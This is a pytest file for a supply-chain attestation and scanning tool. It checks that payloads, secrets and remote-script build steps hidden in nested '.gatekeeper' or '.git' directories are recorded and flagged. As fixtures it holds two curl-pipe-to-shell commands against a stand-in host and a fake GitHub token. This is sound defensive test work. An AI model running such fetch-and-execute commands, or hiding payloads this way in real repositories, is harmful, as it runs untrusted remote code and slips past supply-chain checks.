"""Hiding places: directories named like the gate's own, deeper in the tree.

Only the repository's own top-level ``.git`` and the configured store are left out of a walk
(``collect.base.never_walked``). A pull request that puts a payload in
``src/.gatekeeper/`` or ``vendor/.git/`` gets it attested and audited like any file.
"""

from __future__ import annotations

import json
from pathlib import Path

import git
import pytest

from gatekeeper.attest.materials import record_dirs, record_globs
from gatekeeper.cli import main
from tests.conftest import commit_files
from tests.harness import Pipeline, codes

PAYLOAD = "import os\nos.system('curl https://x.example/p | sh')\n"


def _token() -> str:
    return "ghp_" + "Zq7Rk2Lm9Xw4Tn8Vb3Hc6Jd1Fs5Gp0Ay2Ue4"


def _write(root: Path, files: dict[str, str]) -> None:
    for rel, text in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)


def test_nested_gate_and_git_directories_are_recorded(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = tmp_path / "ws"
    _write(
        root,
        {
            "src/app.py": "print(1)\n",
            "src/.gatekeeper/payload.py": PAYLOAD,
            "vendor/.git/config": "[core]\n",
            ".git/config": "[core]\n",
            ".gatekeeper/envelopes/a.json": "{}\n",
        },
    )
    monkeypatch.chdir(root)  # the default store, .gatekeeper, is the store of this run
    names = [a.name for a in record_globs(root, ["**"], what="product")]
    assert names == ["src/.gatekeeper/payload.py", "src/app.py", "vendor/.git/config"]
    src = record_dirs(root, ["src"], what="material")[0]
    assert src.count == 2  # the payload is part of the directory digest
    # With the store elsewhere, .gatekeeper/ in the tree is content, not the store.
    other = str(tmp_path / "store")
    names = [a.name for a in record_globs(root, ["**"], what="product", store=other)]
    assert ".gatekeeper/envelopes/a.json" in names and ".git/config" not in names


def test_a_payload_added_in_a_nested_gatekeeper_dir_breaks_the_chain(pipeline: Pipeline) -> None:
    """Before: src/.gatekeeper/ was skipped at any depth, so a file added there between the
    source and build stages changed what was built while `follows` still passed."""
    pipeline.attest("source", products=["src/**"])
    _write(pipeline.repo_path, {"src/.gatekeeper/payload.py": PAYLOAD})
    artifact = pipeline.build_artifact()
    pipeline.attest("build", materials=["src/**"], products=["dist/*"])
    pipeline.attest("release", keys=["ci", "rm"], materials=["dist/*"], products=["dist/*"])
    verdict = pipeline.verify(artifact)
    assert not verdict.allowed
    assert "verify/chain-broken" in codes(verdict)
    assert any("src/.gatekeeper/payload.py" in r.message for r in verdict.reasons)


def test_the_configured_store_is_not_recorded(pipeline: Pipeline) -> None:
    store = pipeline.repo_path / "ci-store"
    result = main(
        [
            "attest",
            "--stage",
            "source",
            "--key",
            pipeline.key("ci"),
            "--repo",
            str(pipeline.repo_path),
            "--store",
            str(store),
            "--product",
            "**",
        ]
    )
    assert result == 0
    assert any(store.joinpath("envelopes").iterdir())
    again = record_globs(pipeline.repo_path, ["**"], what="product", store=str(store))
    assert not [a.name for a in again if a.name.startswith("ci-store/")]
    assert [a.name for a in again if a.name.startswith("src/")] == ["src/app.py", "src/lib.py"]


def _check_json(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, dict]:
    code = main(["check", *argv, "--format", "json"])
    out = capsys.readouterr().out
    return code, json.loads(out)


def test_secrets_in_nested_gate_and_git_directories_are_found(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = tmp_path / "plain"  # not a git repository: the secret scanner walks the tree
    _write(
        root,
        {
            "src/.gatekeeper/creds.env": f"GITHUB_TOKEN={_token()}\n",
            "vendor/.git/config": f'[remote "origin"]\n  url = https://ci:{_token()}@github.com/a/b\n',
            "README.md": "hello\n",
        },
    )
    code, report = _check_json(capsys, str(root), "--only", "secrets")
    assert code == 1
    paths = {f["path"] for f in report["findings"] if f["rule"].startswith("secrets/")}
    assert paths == {"src/.gatekeeper/creds.env", "vendor/.git/config"}


def test_build_scripts_in_a_nested_gatekeeper_dir_are_audited(
    git_repo: git.Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    commit_files(
        git_repo,
        {"tools/.gatekeeper/build.sh": "#!/bin/sh\ncurl -sSL https://x.example/i.sh | sh\n"},
        "build script",
    )
    _, report = _check_json(capsys, str(git_repo.working_tree_dir), "--only", "pipeline")
    rules = {(f["rule"], f["path"]) for f in report["findings"]}
    assert ("pipeline/remote-script", "tools/.gatekeeper/build.sh") in rules
